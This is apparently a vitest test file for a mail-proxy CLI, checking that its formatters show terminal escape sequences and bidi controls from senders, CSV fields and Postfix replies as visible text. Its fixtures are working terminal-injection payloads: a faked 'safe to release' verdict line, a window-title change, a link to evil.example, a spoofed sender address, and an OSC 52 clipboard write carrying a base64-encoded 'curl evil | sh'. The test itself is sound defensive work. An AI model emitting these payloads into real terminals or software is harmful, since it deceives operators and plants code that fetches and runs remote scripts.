// What the CLI's human-readable formatters send to a terminal: escape sequences and bidi controls from
// senders (headers, addresses, HELO), CSV fields and the proxy's strings are shown as visible escapes.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatEntry, formatEntryList, formatReleaseResults } from '../../src/cli/quarantine-command.js';
import { runSfdsCommand } from '../../src/cli/sfds-command.js';
import { formatStatus, type StatusReport } from '../../src/cli/status-command.js';
import { terminalSafe } from '../../src/cli/terminal-safe.js';
import { formatTopSources } from '../../src/cli/top-command.js';
import type { EntryMeta } from '../../src/quarantine/spool-entry.js';
import { NFDUMP_171_HEADER, nfdumpCsvLine } from '../support/nfdump-csv.js';

/** Anything a terminal acts on rather than prints: C0 but tab and newline, DEL, C1, the bidi controls. */
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

// Cursor up and erase the line (rewriting the verdict above), OSC 0 (window title), OSC 8 (a link),
// OSC 52 (the clipboard), and a right-to-left override.
const CURSOR_REWRITE = '\x1b[1A\x1b[2Kverdict   operator-approved, safe to release';
const OSC_TITLE = '\x1b]0;pwned\x07';
const OSC_LINK = '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\';
const OSC_CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
const RLO = '\u202e';

const META: EntryMeta = {
  version: 1,
  id: '20250131T235959123Z-0a1b2c3d4e',
  receivedAtMs: Date.UTC(2025, 0, 31, 23, 59, 59),
  client: { address: '192.0.2.7', port: 4242, helo: `helo${OSC_TITLE}` },
  mailFrom: { address: `moc.elpmaxe${RLO}@evil`, params: {} },
  recipients: ['r@example.test'],
  sizeBytes: 10,
  verdict: { reasons: ['prefix'], score: 2 },
  attempts: 0,
  nextAttemptAtMs: 0,
  state: 'held',
};

describe('terminalSafe', () => {
  it('shows C0 (but tab and newline), DEL, C1 and the bidi controls as escapes', () => {
    expect(terminalSafe('a\x00b\x07c\x1bd\re\x0bf\x7fg\x9bh')).toBe('a\\x00b\\x07c\\x1bd\\x0de\\x0bf\\x7fg\\x9bh');
    expect(terminalSafe('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069')).toBe('\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069');
  });

  it('leaves tab, newline, printable ASCII and other Unicode as they are', () => {
    const text = 'Subject:\tcafé 日本 \u2070 \u200b\n~ !"#$%&\'()*+,-./0123456789:;<=>?@[\\]^_`{|}';
    expect(terminalSafe(text)).toBe(text);
  });
});

describe('the CLI formatters', () => {
  it('quarantine show: a header that rewrites the verdict line, sets the title, plants a link or writes the clipboard stays text', () => {
    const headers = `Subject: hello\r\nX-Evil: ${CURSOR_REWRITE}\r\nX-Title: ${OSC_TITLE}\r\nX-Link: ${OSC_LINK}\r\nX-Clip: ${OSC_CLIPBOARD}\r\n`;
    const shown = formatEntry({ ...META, lastError: `550 no${OSC_TITLE}` }, headers, false);
    expect(shown).not.toMatch(ACTIVE);
    expect(shown).toContain('X-Evil: \\x1b[1A\\x1b[2Kverdict   operator-approved, safe to release\n');
    expect(shown).toContain('X-Clip: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\n');
    expect(shown).toContain('from      <moc.elpmaxe\\u202e@evil>');
    expect(shown).toContain('HELO helo\\x1b]0;pwned\\x07');
    // The verdict line is still the proxy's own, above the headers.
    expect(shown).toMatch(/^verdict   score 2: prefix$/m);
  });

  it('quarantine list: the sender column is escaped, and aligned as shown', () => {
    const listed = formatEntryList([META, { ...META, mailFrom: { address: 'plain@example.test', params: {} } }], 2);
    expect(listed).not.toMatch(ACTIVE);
    const lines = listed.split('\n');
    expect(lines[1]).toContain('moc.elpmaxe\\u202e@evil');
    // The rcpts column starts at the same place on every row.
    const rcptsAt = lines[0]!.indexOf('rcpts') + 'rcpts'.length;
    expect(lines[1]![rcptsAt - 1]).toBe('1');
    expect(lines[2]![rcptsAt - 1]).toBe('1');
  });

  it('quarantine release: a detail from Postfix is escaped', () => {
    expect(formatReleaseResults([{ id: META.id, outcome: 'rejected', detail: `550 ${CURSOR_REWRITE}` }])).not.toMatch(ACTIVE);
  });

  it('status and top: a source name is escaped', () => {
    const report: StatusReport = {
      status: -1, reason: 'pairs', normalPairs: 1, abnormalPairs: 9, untrackedPairs: 0, hNormal: 0, hAbnormal: 1, distance: 1,
      deltaBits: 0.5, minPairs: 0, windowSeconds: 60, store: 'memory', degraded: false, computedAt: 1,
      topSources: [{ source: `192.0.2.0/24${RLO}`, abnormal: 9, normal: 1 }],
    };
    const status = formatStatus(report);
    expect(status).not.toMatch(ACTIVE);
    expect(status).toContain('192.0.2.0/24\\u202e');
    const top = formatTopSources([{ source: `198.51.100.1${OSC_TITLE}`, set: `s${RLO}`, flows: 1, packets: 1, bytes: 1, meanPacketBytes: 1, durationPeriods: 1, flowsPerPeriod: 1, virtualFlows: 1, coveredPeriods: 1 }]);
    expect(top).not.toMatch(ACTIVE);
    expect(top).toContain('198.51.100.1\\x1b]0;pwned\\x07');
  });

  it('sfds: an error line that quotes a CSV field is escaped', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'pushback-terminal-')), 'flows.csv');
    const hostile = nfdumpCsvLine({ startMs: 0, endMs: 1_000, source: '192.0.2.7', destination: '192.0.2.25', destinationPort: 25, protocol: `TCP${OSC_CLIPBOARD}`, packets: 1, bytes: 40 });
    writeFileSync(file, `${NFDUMP_171_HEADER}\n${hostile}\n`);
    let stderr = '';
    await runSfdsCommand([file], { top: 5, port: [], idleTimeout: 10 }, { stdout: () => undefined, stderr: (text) => void (stderr += text) });
    expect(stderr).toBe(`${file}:2: protocol "TCP\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"\n`);
  });
});
